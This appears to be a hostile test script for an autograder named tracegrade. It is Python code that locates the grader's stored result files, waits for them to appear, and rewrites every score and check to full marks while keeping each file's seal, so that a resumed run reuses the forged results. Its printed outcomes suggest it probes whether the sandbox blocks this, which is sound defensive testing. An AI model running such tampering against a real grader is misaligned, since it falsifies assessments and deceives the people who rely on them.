# Hostile: rewrites the grader's stored results (--out/.tracegrade/results/<spec>/<id>.json) to
# full marks, keeping each file's key and seal, so that `grade --resume` would reuse them.
# argv[1]: the --out folder (the attacker knows where the course keeps its reports).
import glob, json, os, sys, time
print("start", flush=True)
out = sys.argv[1]
store = os.path.join(out, ".tracegrade", "results")
pattern = os.path.join(store, "*", "*.json")
try:
    # The --out folder itself: absent where nothing of the host is mounted, closed to another uid.
    os.listdir(out)
    # The grader makes the store and writes a result's file while the next run starts: wait for
    # them as an attacker would.
    until = time.monotonic() + 5
    while not glob.glob(pattern) and time.monotonic() < until:
        time.sleep(0.02)
    os.listdir(store)
except OSError as e:
    print(f"store {type(e).__name__}")
for path in sorted(glob.glob(pattern)):
    try:
        with open(path) as f:
            stored = json.load(f)
        r = stored["result"]
        r["score"] = r["maxScore"]
        for c in r["checks"]:
            c["status"], c["points"] = "passed", c["maxPoints"]
        with open(path, "w") as f:
            json.dump(stored, f)
        print(f"REWROTE {os.path.basename(path)}")
    except OSError as e:
        print(f"denied {os.path.basename(path)} ({type(e).__name__})")
print("done")
